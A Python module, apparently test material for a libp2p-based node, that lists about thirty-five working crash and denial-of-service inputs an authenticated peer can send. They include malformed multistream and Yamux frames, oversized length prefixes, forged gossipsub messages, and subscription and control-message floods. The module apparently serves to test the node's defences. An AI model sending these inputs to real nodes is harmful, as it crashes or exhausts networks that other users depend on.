"""What an authenticated peer, which is anyone with a key, can do: each attack takes its host and the node's peer id.

As shipped, libp2p's process ends at each of the first six; why stands in debros.p2p.workarounds.
"""

import os
import struct

from libp2p.custom_types import TProtocol
from libp2p.identity.identify.pb import identify_pb2
from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11
from libp2p.pubsub.pb import rpc_pb2
from libp2p.utils import encode_varint_prefixed

TOPIC = "ns::shop::orders"
YAMUX_HEADER = "!BBHII"


def _on(protocol, data, *, end="reset"):
    async def attack(host, peer):
        stream = await host.new_stream(peer, [TProtocol(protocol)])
        await stream.write(data)
        await getattr(stream, end)()

    return attack


def meshsub(data):
    async def attack(host, peer):
        stream = await host.new_stream(peer, [PROTOCOL_ID_V11])
        await stream.write(data)

    return attack


def rpc(**fields):
    return meshsub(encode_varint_prefixed(rpc_pb2.RPC(**fields).SerializeToString()))


def message(**fields):
    fields = {"data": b"x", "topicIDs": [TOPIC], "seqno": bytes(8), "signature": b"s", **fields}
    return rpc(publish=[rpc_pb2.Message(**fields)])


def yamux(frame):
    async def attack(host, peer):
        await host.get_network().get_connections(peer)[0].muxed_conn.secured_conn.write(frame)

    return attack


def _words(data):
    """Bytes in place of a stream's negotiation."""

    async def attack(host, peer):
        stream = await host.get_network().get_connections(peer)[0].muxed_conn.open_stream()
        await stream.write(data)

    return attack


async def ignore_flow_control(host, peer):
    connection = host.get_network().get_connections(peer)[0].muxed_conn
    stream = await connection.open_stream()
    for _ in range(100):
        header = struct.pack(YAMUX_HEADER, 0, 0, 0, stream.stream_id, 65000)
        await connection.secured_conn.write(header + bytes(65000))


async def open_streams(host, peer):
    """So many that nobody uses, none of them announced properly."""
    connection = host.get_network().get_connections(peer)[0].muxed_conn
    frames = b"".join(struct.pack(YAMUX_HEADER, 0, 1, 1, 10001 + 2 * number, 0) for number in range(500))
    await connection.secured_conn.write(frames)


async def flood_with_forgeries(host, peer):
    """Messages whose signatures are wrong."""
    stream = await host.new_stream(peer, [PROTOCOL_ID_V11])
    own = host.get_id().to_bytes()
    for number in range(500):
        forged = rpc_pb2.Message(
            data=b"x", topicIDs=[TOPIC], from_id=own, seqno=number.to_bytes(8, "big"), signature=bytes(64)
        )
        await stream.write(encode_varint_prefixed(rpc_pb2.RPC(publish=[forged]).SerializeToString()))


async def follow_ever_more(host, peer):
    """Topics of applications, which the node relays: new ones all the time."""
    stream = await host.new_stream(peer, [PROTOCOL_ID_V11])
    for _ in range(3):
        names = (f"ns::{os.urandom(4).hex()}::{number}" for number in range(500))
        following = [rpc_pb2.RPC.SubOpts(subscribe=True, topicid=name) for name in names]
        await stream.write(encode_varint_prefixed(rpc_pb2.RPC(subscriptions=following).SerializeToString()))


def _identify():
    told = identify_pb2.Identify(
        agent_version="x",
        public_key=os.urandom(36),
        listen_addrs=[b"\xff\xff\xff"],
        observed_addr=b"\x99\x99",
        signedPeerRecord=os.urandom(80),
        protocols=["/a"] * 50_000,
    )
    return encode_varint_prefixed(told.SerializeToString())


ATTACKS = (
    _words(b"\x13/multistream/1.0.0\n\x04\xff\xfe\xfd\n"),
    meshsub(encode_varint_prefixed(b"\xff" * 10)),
    meshsub(encode_varint_prefixed(os.urandom(300))),
    message(from_id=b"\x12\x20" + bytes(32), key=os.urandom(40)),
    message(from_id=b"\xff", key=b"k"),
    message(from_id=b"", key=b""),
    message(from_id=b"\xff", key=b"k", topicIDs=[TOPIC, "other"]),
    meshsub(b"\xff" * 11),
    meshsub(b"\xff\xff\xff\xff\x07"),  # a message of 2 GB is announced
    rpc(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid="t" * 5000)]),
    rpc(control=rpc_pb2.ControlMessage(ihave=[rpc_pb2.ControlIHave(topicID=TOPIC, messageIDs=[b"\xff\xfe"])])),
    rpc(control=rpc_pb2.ControlMessage(iwant=[rpc_pb2.ControlIWant(messageIDs=[b"\xff\xfe"])])),
    rpc(control=rpc_pb2.ControlMessage(prune=[rpc_pb2.ControlPrune(topicID=TOPIC, backoff=2**63)])),
    rpc(control=rpc_pb2.ControlMessage(graft=[rpc_pb2.ControlGraft(topicID="nosuch")])),
    rpc(control=rpc_pb2.ControlMessage(idontwant=[rpc_pb2.ControlIDontWant(messageIDs=[b"\xff\xfe"] * 5000)])),
    rpc(senderRecord=os.urandom(100)),
    rpc(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid=f"t{number}") for number in range(4000)]),
    follow_ever_more,
    yamux(os.urandom(5000)),
    yamux(struct.pack(YAMUX_HEADER, 0, 0, 0, 1, 0xFFFFFFF0)),
    yamux(struct.pack(YAMUX_HEADER, 9, 77, 0xFFFF, 123456, 99)),
    yamux(struct.pack(YAMUX_HEADER, 0, 0, 0, 4001, 5) + b"hello"),
    _words(b"\xff\xff\xff\xff\x0f" + bytes(100_000)),
    _words(b"\x00" * 100),
    _words(b"\xff" * 50),
    _words(b"\x13/multistream/1.0.0\n\x03ls\n"),
    _on("/ipfs/id/push/1.0.0", encode_varint_prefixed(os.urandom(500)), end="close"),
    _on("/ipfs/id/push/1.0.0", b"\xff\xff\xff\xff\x0f" + os.urandom(5000), end="close"),
    _on("/ipfs/id/push/1.0.0", _identify(), end="close"),
    _on("/ipfs/ping/1.0.0", b"short", end="close"),
    _on("/ipfs/ping/1.0.0", b"short"),
    _on("/debros/peer-exchange/1.0.0", os.urandom(5000), end="close"),
    _on("/nobody/speaks/this", b"x"),
    ignore_flow_control,
    open_streams,
    flood_with_forgeries,
)  # fmt: skip
